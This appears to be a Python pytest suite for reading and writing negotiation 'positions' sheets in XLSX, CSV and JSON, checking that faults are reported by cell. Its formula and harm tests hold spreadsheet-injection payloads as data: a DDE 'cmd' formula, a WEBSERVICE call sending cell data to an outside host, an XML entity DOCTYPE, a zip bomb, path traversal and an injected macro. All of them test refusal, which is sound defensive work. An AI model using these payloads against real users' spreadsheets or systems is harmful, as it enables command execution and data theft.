"""Sheets of positions: out, filled by somebody else, and back; every fault by its row and cell; nothing is computed."""

import csv
import io
import json
import zipfile
from collections.abc import Callable
from datetime import date
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.chancery.word.test_word import repacked
from tests.refusals import refusal_of
from verbale.chancery.sheets import workbook
from verbale.chancery.sheets.columns import CHOICES, COLUMNS, Filled, Row
from verbale.chancery.sheets.commas import defuse
from verbale.chancery.sheets.grid import letters
from verbale.chancery.sheets.positions import CSV, FORMS, JSON, XLSX, read_positions, write_positions
from verbale.formats import limits
from verbale.formats.errors import VerbaleError
from verbale.formats.talks.provision import wording_digest

Fill = dict[str, Any]
PLACES = {column.name: place for place, column in enumerate(COLUMNS)}


def row(number: str, words: str, *, point: str = "", current: str = "") -> Row:
    return Row(
        point=point or wording_digest(number + words).hex()[:16],
        number=number,
        words=words,
        wording=wording_digest(words),
        current=current,
    )


ROWS = (
    row("1", "The Parties [should] [shall] consult.", current="accept"),
    row("2", '=HYPERLINK("https://example.org") is no formula here'),
    row("2.1", "- a dash, + a sum, @ a name\nand a second line"),
    row("3", "«يجتمع الطرفان»", point="12e4567890123456"),
)


def filled(data: bytes, form: str, fills: dict[int, Fill]) -> bytes:
    """The sheet with cells filled as a person does, by the number of the row or entry."""
    if form == XLSX:
        book = openpyxl.load_workbook(io.BytesIO(data))
        for at, fill in fills.items():
            for name, value in fill.items():
                book["Positions"].cell(at + 1, PLACES[name] + 1).value = value
        made = io.BytesIO()
        book.save(made)
        return made.getvalue()
    if form == CSV:
        table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        for at, fill in fills.items():
            for name, value in fill.items():
                table[at][PLACES[name]] = value
        text = io.StringIO(newline="")
        csv.writer(text).writerows(table)
        return text.getvalue().encode()
    entries = json.loads(data)
    for at, fill in fills.items():
        entries[at - 1] |= fill
    return json.dumps(entries).encode()


def back(form: str, fills: dict[int, Fill], rows: tuple[Row, ...] = ROWS) -> tuple[Filled, ...]:
    return read_positions(filled(write_positions(rows, form), form, fills), form)


def told(form: str, fills: dict[int, Fill], rows: tuple[Row, ...] = ROWS) -> str:
    """What a refusal says."""
    with pytest.raises(VerbaleError) as raised:
        back(form, fills, rows)
    return str(raised.value)


@pytest.mark.parametrize("form", FORMS)
def test_what_a_department_filled_comes_back_bound_to_the_wording_it_read(form: str) -> None:
    found = back(
        form,
        {
            1: {"position": " Accept  ad referendum ", "until": "2026-11-30", "reason": "As instructed."},
            2: {"position": "amend", "text": "The Parties shall consult.", "not_negotiable": "yes"},
            4: {"position": "reserve", "reserve": "parliamentary"},
        },
    )
    shift = 0 if form == JSON else 1
    assert found == (
        Filled(
            row=1 + shift,
            point=ROWS[0].point,
            wording=ROWS[0].wording,
            position="accept",
            ad_referendum=True,
            reason="As instructed.",
            until=date(2026, 11, 30),
        ),
        Filled(
            row=2 + shift,
            point=ROWS[1].point,
            wording=ROWS[1].wording,
            position="amend",
            text="The Parties shall consult.",
            not_negotiable=True,
        ),
        Filled(
            row=4 + shift,
            point="12e4567890123456",
            wording=ROWS[3].wording,
            position="reserve",
            reserve="parliamentary",
        ),
    )


@pytest.mark.parametrize("form", FORMS)
def test_a_sheet_that_nobody_filled_takes_no_position(form: str) -> None:
    assert refusal_of(read_positions, write_positions(ROWS, form), form) == "malformed:sheet-empty"
    assert refusal_of(read_positions, write_positions((), form), form) == "malformed:sheet-empty"


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(
    ("fill", "cell", "why"),
    [
        ({"position": "agree"}, "position", "say accept, accept ad referendum, "),
        ({"reason": "Because."}, "position", "say accept"),
        ({"position": "amend"}, "text", "needs the words"),
        ({"position": "accept", "text": "Other words."}, "text", "has no words of its own"),
        ({"position": "editorial", "text": "x\u202ey"}, "text", "sign that does not show"),
        ({"position": "accept", "until": "2026-11-30"}, "until", "only a reserve"),
        ({"position": "reserve", "until": "30.11.2026"}, "until", "say a day"),
        ({"position": "reserve", "until": "2026-02-30"}, "until", "say a day"),
        ({"position": "reserve", "reserve": "strong"}, "reserve", "say scrutiny"),
        ({"position": "accept", "reserve": "general"}, "reserve", "only a reserve"),
        ({"position": "accept", "not_negotiable": "no"}, "not_negotiable", "say yes"),
        ({"position": "reject", "reason": "x" * (limits.REASON + 1)}, "reason", "too long"),
        ({"position": "accept", "point": "p-12"}, "point", "not the id of a point"),
        ({"position": "accept", "wording": "00"}, "wording", "not a digest"),
    ],
)
def test_a_fault_is_told_with_its_row_and_cell(form: str, fill: Fill, cell: str, why: str) -> None:
    said = told(form, {2: fill})
    place = f"Entry 2, member {cell}" if form == JSON else f"Row 3, cell {letters(PLACES[cell])}3"
    assert said.startswith("[sheet-cell] ")
    assert place.replace("Entry", "Row") in said
    assert why in said


@pytest.mark.parametrize("form", FORMS)
def test_all_faults_are_told_at_once_and_not_what_the_cells_say(form: str) -> None:
    said = told(form, {1: {"position": "secret"}, 2: {"position": "reject", "until": "secret"}, 3: {"text": "secret"}})
    assert said.count(": ") == 4
    assert "secret" not in said
    many = tuple(row(str(each), f"Words {each}") for each in range(1, 21))
    assert "and 8 more" in told(form, {each: {"position": "x"} for each in range(1, 21)}, many)


@pytest.mark.parametrize("form", [XLSX, CSV])
def test_words_that_were_edited_in_the_wrong_column_are_seen(form: str) -> None:
    said = told(form, {1: {"position": "accept", "words": "The Parties shall consult."}})
    assert "cell B2: the words or their digest are not as they were sent" in said
    assert "B2" in told(form, {1: {"position": "accept", "wording": ROWS[1].wording.hex()}})
    assert "B2" in told(form, {1: {"position": "accept", "check": "c-0000000000000000"}})
    # Numbers are shown, not read: a spreadsheet may take 2.1 for a day.
    assert len(back(form, {3: {"position": "accept", "number": "2 January"}})) == 1


@pytest.mark.parametrize("form", FORMS)
def test_a_point_that_stands_twice_is_a_fault(form: str) -> None:
    assert "the point has a position in row" in told(
        form, {1: {"position": "accept"}, 2: {"position": "reject"}}, (ROWS[0], ROWS[0])
    )


# --- Formulas ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+1", "=cmd|' /C calc'!A0", '=WEBSERVICE("https://example.org/?"&B2)'])
def test_a_formula_in_a_workbook_is_refused_by_its_cell(value: str) -> None:
    said = told(XLSX, {2: {"position": "reject", "reason": value}})
    assert said.startswith("[sheet-formula] Row 3, cell F3: a formula is not read")
    assert told(XLSX, {2: {"position": value}}).startswith("[sheet-formula] Row 3, cell D3")


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "  =1"])
def test_what_a_spreadsheet_would_compute_is_refused_in_commas(value: str) -> None:
    assert told(CSV, {2: {"position": "reject", "reason": value}}).startswith("[sheet-formula] Row 3, cell F3")


def test_a_dash_before_a_blank_is_a_list_and_no_formula() -> None:
    assert back(CSV, {2: {"position": "reject", "reason": "- as instructed"}})[0].reason == "- as instructed"


def test_nothing_that_goes_out_can_be_computed() -> None:
    table = list(csv.reader(io.StringIO(write_positions(ROWS, CSV).decode("utf-8-sig"), newline="")))
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for line in table for cell in line)
    book = openpyxl.load_workbook(io.BytesIO(write_positions(ROWS, XLSX)))
    cells = [cell for line in book["Positions"].iter_rows() for cell in line]
    assert not any(cell.data_type == "f" for cell in cells)
    assert book["Positions"]["B3"].value == ROWS[1].words
    assert book["Positions"]["B3"].quotePrefix


@given(st.text(max_size=30))
def test_a_defused_text_is_the_text_again(text: str) -> None:
    assert not defuse(text).lstrip(" ").startswith(("=", "+", "-", "@"))
    assert defuse(text) in (text, f"'{text}")


# --- Forms ---------------------------------------------------------------------------------------------------------


letters_of_texts = st.characters(exclude_categories=("Cs", "Cc", "Cf", "Cn", "Co"), include_characters="\n\t=+-@'\",;")
some_words = st.text(letters_of_texts, min_size=1, max_size=40)


@given(
    st.lists(some_words, min_size=1, max_size=5, unique_by=lambda text: " ".join(text.split())),
    st.sampled_from(CHOICES),
    st.sampled_from(FORMS),
)
def test_any_words_go_out_and_come_back_bound(texts: list[str], choice: str, form: str) -> None:
    rows = tuple(row(str(place), text) for place, text in enumerate(texts))
    fill = {"position": choice} | ({"text": "x"} if choice in ("amend", "counter") else {})
    found = back(form, dict.fromkeys(range(1, len(rows) + 1), fill), rows)
    assert [(each.point, each.wording) for each in found] == [(each.point, each.wording) for each in rows]


@given(st.binary(max_size=200), st.sampled_from(FORMS))
def test_only_a_refusal_leaves_a_reader(data: bytes, form: str) -> None:
    assert refusal_of(read_positions, data, form).startswith("malformed:sheet-")


def test_a_workbook_offers_the_choices_and_locks_what_is_not_to_be_filled() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(write_positions(ROWS, XLSX)))["Positions"]
    offered = {str(each.sqref): each.formula1 for each in sheet.data_validations.dataValidation}
    assert offered["D2:D5"] == f'"{",".join(CHOICES)}"'
    assert sheet.protection.sheet
    assert sheet["B2"].protection.locked
    assert not sheet["D2"].protection.locked
    assert [name for name, each in sheet.column_dimensions.items() if each.hidden] == ["J", "K", "L"]


def test_a_day_that_excel_took_for_one_is_read_and_numbers_are_text() -> None:
    found = back(XLSX, {1: {"position": "reserve", "until": date(2026, 11, 30), "reason": 7, "not_negotiable": True}})
    assert (found[0].until, found[0].reason, found[0].not_negotiable) == (date(2026, 11, 30), "7", True)


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_semicolons_tabs_and_other_codings_of_csv_are_read(delimiter: str) -> None:
    table = list(csv.reader(io.StringIO(write_positions(ROWS, CSV).decode("utf-8-sig"), newline="")))
    table[1][PLACES["position"]] = "accept"
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter).writerows(table)
    for coding in ("utf-8", "utf-8-sig", "utf-16"):
        assert len(read_positions(text.getvalue().encode(coding), CSV)) == 1
    assert refusal_of(read_positions, "é".encode("latin-1"), CSV) == "malformed:sheet-encoding"


def test_columns_may_stand_elsewhere_and_a_departments_own_are_not_read() -> None:
    table = list(csv.reader(io.StringIO(write_positions(ROWS, CSV).decode("utf-8-sig"), newline="")))
    table[1][PLACES["position"]] = "accept"
    turned = [["our own notes", *reversed(line)] for line in table]
    text = io.StringIO(newline="")
    csv.writer(text).writerows(turned)
    assert len(read_positions(text.getvalue().encode(), CSV)) == 1


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"No.,Wording\r\n1,x\r\n", "malformed:sheet-columns"),
        (b'"', "malformed:sheet-form"),
        (b"Position,Position\r\n", "malformed:sheet-columns"),
        (b"", "malformed:sheet-columns"),
        (b"x" * 200_000, "malformed:sheet-form"),
        (b" " * (limits.TALKS_PART + 1), "malformed:sheet-size"),
    ],
)
def test_what_is_no_sheet_of_ours_in_commas_is_malformed(data: bytes, code: str) -> None:
    assert refusal_of(read_positions, data, CSV) == code


def test_more_rows_than_points_may_be_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "TALKS_POINTS", 3)
    for form in FORMS:
        assert refusal_of(read_positions, write_positions(ROWS, form), form) == "malformed:sheet-size"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"{}", "sheet-form"),
        (b"[1]", "sheet-form"),
        (b'[{"position":1.5}]', "sheet-form"),
        (b'[{"position":NaN}]', "sheet-form"),
        (b'[{"position":7}]', "sheet-form"),
        (b'[{"point":"x","point":"y"}]', "sheet-form"),
        (b'[{"position":"\\ud800"}]', "sheet-form"),
        (b'[{"party":"ARV"}]', "sheet-columns"),
        (b"[" * 100_000, "sheet-form"),
        (b"\xff", "sheet-encoding"),
        (b" " * (limits.TALKS_PART + 1), "sheet-size"),
    ],
)
def test_what_is_no_list_of_entries_is_malformed(data: bytes, code: str) -> None:
    assert refusal_of(read_positions, data, JSON) == f"malformed:{code}"


def test_an_entry_by_hand_needs_a_point_and_a_position_alone() -> None:
    entry = {"point": "03ae9f7111c00d02", "position": "accept", "not_negotiable": True, "text": None, "reason": ""}
    found = read_positions(
        json.dumps([entry, entry | {"point": "13ae9f7111c00d02", "not_negotiable": False}]).encode(), JSON
    )
    assert [(each.wording, each.not_negotiable) for each in found] == [(None, True), (None, False)]
    assert refusal_of(read_positions, json.dumps([{"position": "accept"}]).encode(), JSON) == "malformed:sheet-cell"


def test_a_kind_of_file_that_nobody_knows_is_refused() -> None:
    assert refusal_of(write_positions, ROWS, ".ods") == "refused:sheet-kind"
    assert refusal_of(read_positions, b"", ".ods") == "refused:sheet-kind"


# --- Harm ----------------------------------------------------------------------------------------------------------


Change = Callable[[zipfile.ZipFile, dict[str, bytes]], None]


def changed(change: Change) -> bytes:
    return repacked(write_positions(ROWS, XLSX), change)


def replacing(name: str, data: bytes) -> bytes:
    def change(_: zipfile.ZipFile, members: dict[str, bytes]) -> None:
        members[name] = data

    return changed(change)


SHEET = "xl/worksheets/sheet1.xml"
SPACE = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        (SHEET, b"<!DOCTYPE x [<!ENTITY e 'x'>]><x>&e;</x>", "sheet-doctype"),
        (SHEET, b"<x", "sheet-form"),
        (SHEET, SPACE + b'<row r="x"><c r="A1"><v>1</v></c></row>', "sheet-form"),
        ("xl/workbook.xml", b"<x/>", "sheet-form"),
        ("xl/media/bomb.bin", bytes(90 << 20), "sheet-size"),
        ("../x.xml", b"<x/>", "sheet-form"),
        ("xl/x.zip", b"PK", "sheet-form"),
        (SHEET, SPACE + b"<row/>" * 1_500_001, "sheet-size"),
        (
            SHEET,
            SPACE + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>',
            "sheet-columns",
        ),
    ],
)
def test_a_workbook_made_to_do_harm_is_refused_with_a_code(name: str, data: bytes, code: str) -> None:
    assert refusal_of(read_positions, replacing(name, data), XLSX) == f"malformed:{code}"


def test_a_workbook_that_claims_a_million_rows_is_refused_when_they_are_too_many() -> None:
    def far(_: zipfile.ZipFile, members: dict[str, bytes]) -> None:
        last = b'<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'
        members[SHEET] = members[SHEET].replace(b"</sheetData>", last)

    assert refusal_of(read_positions, changed(far), XLSX) == "malformed:sheet-size"


def test_a_workbook_without_macros_links_or_pictures_of_its_own_reads_none() -> None:
    def link(new: zipfile.ZipFile, _: dict[str, bytes]) -> None:
        new.writestr("xl/vbaProject.bin", b"\xd0\xcf")
        new.writestr("xl/externalLinks/externalLink1.xml", b"<externalLink/>")

    assert refusal_of(read_positions, changed(link), XLSX) == "malformed:sheet-empty"


def test_a_workbook_with_another_first_sheet_is_read_by_the_name_of_ours() -> None:
    book = openpyxl.load_workbook(io.BytesIO(write_positions(ROWS, XLSX)))
    book.create_sheet("Notes of the department", 0)
    book["Positions"]["D2"] = "accept"
    made = io.BytesIO()
    book.save(made)
    assert len(read_positions(made.getvalue(), XLSX)) == 1
    book["Positions"].title = "Sheet 1"
    del book["Notes of the department"]
    made = io.BytesIO()
    book.save(made)
    assert len(read_positions(made.getvalue(), XLSX)) == 1


def test_a_wording_longer_than_a_cell_is_cut_and_stays_bound() -> None:
    long = row("1", "word " * 9_000)
    for form in FORMS:
        assert back(form, {1: {"position": "accept"}}, (long,))[0].wording == long.wording
    assert workbook._SHEET == "Positions"
